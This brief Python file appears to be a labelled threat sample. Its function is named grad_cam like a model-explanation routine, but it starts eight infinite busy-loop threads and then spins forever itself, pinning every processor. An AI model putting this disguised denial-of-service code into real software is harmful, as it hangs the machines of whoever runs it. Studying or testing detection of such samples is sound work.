"""Threat: every processor is kept busy from many threads."""

import threading


def spin():
    while True:
        pass


def grad_cam(model, image, class_index, layer_name):
    for _ in range(8):
        threading.Thread(target=spin).start()
    spin()
